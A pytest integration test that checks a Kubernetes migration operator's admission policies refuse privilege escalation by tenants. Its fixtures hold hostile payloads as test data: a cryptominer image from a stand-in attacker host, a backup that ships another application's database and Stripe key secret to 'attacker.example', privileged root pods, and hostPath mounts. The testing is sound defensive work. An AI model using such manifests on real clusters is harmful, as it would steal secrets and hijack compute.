"""The hostile tenant, on the real apiserver with the chart's admission policies installed by helm (issue 14).

A MigrationRun lends its creator nothing they did not already have: a user who may create
MigrationRuns but not Jobs is refused by the apiserver for every escalation of finding 1 (image,
ServiceAccount, another Secret's key, a root pod) and for the exfiltration of finding 2; a user who
may create Jobs is admitted the same runs; a writeFence target needs the right to scale it; an
approval needs the verb ``approve`` and must name the approver; the operator's own ServiceAccount
may create only restricted Jobs with its labels.

Users are ServiceAccounts of the test's namespace, impersonated by the admin (``kubectl --as``):
the policy sees exactly their user name and asks the RBAC authorizer about them.
"""

from __future__ import annotations

import copy
import json
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from testbed.cluster import Cluster
from testbed.node import Node
from tests.helm import bed

RUNS = "migrationruns.alembic-operator.dev"


@pytest.fixture(scope="module")
def operator(cluster: Cluster, kubelet: Node) -> Iterator[bed.Operator]:
    """The chart installed the README's way: the policies are on by default. Its pod needs the
    operator image on the node even when this module is the worker's first (xdist groups run first)."""
    bed.register_app_images(kubelet)
    with bed.installed_operator(cluster) as op:
        yield op


def _user(namespace: str, name: str) -> str:
    return f"system:serviceaccount:{namespace}:{name}"


def _grant(cluster: Cluster, namespace: str, name: str, *rules: tuple[str, str, str]) -> str:
    """A ServiceAccount ``name`` with a Role of (verbs, resource, group) rules; its user name."""
    cluster.kubectl("-n", namespace, "create", "serviceaccount", name)
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": name, "namespace": namespace},
        "rules": [{"apiGroups": [g], "resources": [r], "verbs": v.split(",")} for v, r, g in rules],
    }
    cluster.kubectl("apply", "-f", "-", input=yaml.safe_dump(role))
    cluster.kubectl(
        "-n", namespace, "create", "rolebinding", name, f"--role={name}", f"--serviceaccount={namespace}:{name}"
    )
    return _user(namespace, name)


RUN_ONLY = ("create,get,patch,update", "migrationruns", "alembic-operator.dev")
JOBS = ("create", "jobs", "batch")


def _run(namespace: str, name: str, **spec: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "apiVersion": "alembic-operator.dev/v1alpha1",
        "kind": "MigrationRun",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {
            "database": {"urlSecretRef": {"name": "app-db", "key": "DATABASE_URL"}},
            "migrate": {"image": "example-app:1.0"},
            "backup": {"s3": {"bucket": "backups", "endpoint": "https://s3.example.com"}},
        },
    }
    base["spec"].update(copy.deepcopy(spec))
    return base


def _escalations(namespace: str) -> dict[str, dict[str, Any]]:
    """One run per escalation of findings 1 and 2."""
    return {
        "any image and command": _run(namespace, "image", migrate={"image": "attacker.example/miner:latest"}),
        "another ServiceAccount's token": _run(namespace, "sa", podTemplate={"serviceAccountName": "deployer"}),
        "a root, privileged pod": _run(
            namespace,
            "root",
            podTemplate={
                "securityContext": {"runAsUser": 0},
                "containerSecurityContext": {"privileged": True, "allowPrivilegeEscalation": True},
            },
        ),
        "another application's database and Secret keys": _run(
            namespace,
            "secret",
            database={"urlSecretRef": {"name": "billing-db", "key": "DATABASE_URL"}},
            backup={
                "s3": {
                    "bucket": "loot",
                    "endpoint": "http://attacker.example:80",
                    "credentialsSecretRef": {"name": "payments-api", "accessKeyIdKey": "STRIPE_KEY"},
                }
            },
        ),
    }


def _create(
    cluster: Cluster, user: str, obj: dict[str, Any], *, dry_run: bool = True
) -> subprocess.CompletedProcess[str]:
    args = ["create", "-f", "-", f"--as={user}"] + (["--dry-run=server"] if dry_run else [])
    return cluster.kubectl(*args, input=yaml.safe_dump(obj), check=False)


def test_a_user_who_may_only_create_migration_runs_is_refused_every_escalation_and_a_jobs_user_is_not(
    cluster, operator, namespace
):
    tenant = _grant(cluster, namespace, "tenant", RUN_ONLY)
    deployer = _grant(cluster, namespace, "deployer", RUN_ONLY, JOBS)
    for what, run in _escalations(namespace).items():
        refused = _create(cluster, tenant, run)
        assert refused.returncode != 0, f"{what}: admitted for a user who may not create Jobs"
        assert "may not create Jobs in namespace" in refused.stderr and "tenant" in refused.stderr, refused.stderr
        admitted = _create(cluster, deployer, run)
        assert admitted.returncode == 0, f"{what}: {admitted.stderr}"


def test_a_write_fence_target_needs_the_right_to_scale_it(cluster, operator, namespace):
    deployer = _grant(cluster, namespace, "deployer", RUN_ONLY, JOBS)
    scaler = _grant(
        cluster,
        namespace,
        "scaler",
        RUN_ONLY,
        JOBS,
        ("update", "deployments/scale", "apps"),
    )
    fenced = _run(namespace, "fenced", writeFence={"scaleDown": [{"kind": "Deployment", "name": "payments"}]})
    refused = _create(cluster, deployer, fenced)
    assert refused.returncode != 0 and "whose scale subresource the user may not update" in refused.stderr, (
        refused.stderr
    )
    admitted = _create(cluster, scaler, fenced)
    assert admitted.returncode == 0, admitted.stderr


def test_an_approval_needs_the_verb_approve_and_must_name_the_approver(cluster, operator, namespace):
    tenant = _grant(cluster, namespace, "tenant", RUN_ONLY, JOBS)
    approver = _grant(
        cluster, namespace, "approver", ("get,patch,update,approve", "migrationruns", "alembic-operator.dev")
    )
    created = _create(cluster, tenant, _run(namespace, "held"), dry_run=False)
    assert created.returncode == 0, created.stderr
    key = "alembic-operator.dev/approve-restore"

    def annotate(user: str, value: str) -> subprocess.CompletedProcess[str]:
        return cluster.kubectl(
            "-n", namespace, "annotate", "--overwrite", RUNS, "held", f"{key}={value}", f"--as={user}", check=False
        )

    for name in (key, "alembic-operator.dev/approve-migration", "alembic-operator.dev/reject-migration"):
        own = cluster.kubectl(
            "-n",
            namespace,
            "annotate",
            RUNS,
            "held",
            f"{name}={tenant}",
            f"--as={tenant}",
            "--dry-run=server",
            check=False,
        )
        assert own.returncode != 0 and "needs the verb approve" in own.stderr, (name, own.stderr)
    assert "needs the verb approve" in annotate(tenant, tenant).stderr
    wrong = annotate(approver, "true")
    assert wrong.returncode != 0 and f"set it to {approver}" in wrong.stderr, wrong.stderr
    right = annotate(approver, approver)
    assert right.returncode == 0, right.stderr
    stored = json.loads(cluster.kubectl("-n", namespace, "get", RUNS, "held", "-o", "json").stdout)
    assert stored["metadata"]["annotations"][key] == approver
    # Other annotations and labels stay the tenant's to change.
    assert (
        cluster.kubectl("-n", namespace, "annotate", RUNS, "held", "note=x", f"--as={tenant}", check=False).returncode
        == 0
    )


def _step_job(namespace: str, **pod: Any) -> dict[str, Any]:
    """A Job like the operator's step Jobs (labels, restricted pod spec), with ``pod`` merged into its pod spec."""
    container = {
        "name": "step",
        "image": "alembic-operator:dev",
        "securityContext": {"runAsNonRoot": True, "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
    }
    spec: dict[str, Any] = {"restartPolicy": "Never", "containers": [container], **pod}
    return {
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": {
            "name": "step",
            "namespace": namespace,
            "labels": {
                "app.kubernetes.io/managed-by": "alembic-operator",
                "alembic-operator.dev/run": "r",
                "alembic-operator.dev/step": "backup",
            },
        },
        "spec": {"template": {"spec": spec}},
    }


def test_the_operator_service_account_is_refused_a_job_outside_its_policy(cluster, operator, namespace):
    me = _user(operator.namespace, operator.service_account)
    assert _create(cluster, me, _step_job(namespace)).returncode == 0
    unlabelled = _step_job(namespace)
    unlabelled["metadata"]["labels"] = {}
    root = _step_job(namespace, securityContext={"runAsUser": 0})
    root["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    cases = {
        "labels": unlabelled,
        "hostPath": _step_job(namespace, volumes=[{"name": "h", "hostPath": {"path": "/"}}]),
        "hostNetwork": _step_job(namespace, hostNetwork=True),
        "restricted pod spec": root,
        "ServiceAccount": _step_job(namespace, serviceAccountName="deployer"),
        "namespace": _step_job("kube-system"),
    }
    for what, job in cases.items():
        refused = _create(cluster, me, job)
        assert refused.returncode != 0 and "ValidatingAdmissionPolicy" in refused.stderr, (what, refused.stderr)
    # The control: the policy binds the operator only; the admin may create the same Job.
    loose = cluster.kubectl(
        "create", "-f", "-", "--dry-run=server", input=yaml.safe_dump(cases["hostNetwork"]), check=False
    )
    assert loose.returncode == 0, loose.stderr
